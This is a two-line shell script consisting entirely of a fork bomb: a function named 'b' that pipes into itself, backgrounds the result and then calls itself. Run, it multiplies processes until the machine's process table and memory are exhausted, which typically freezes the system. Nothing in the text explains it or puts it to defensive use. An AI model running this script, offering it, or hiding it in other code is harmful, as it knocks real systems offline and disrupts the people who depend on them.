#!/bin/sh
b(){ b|b& };b
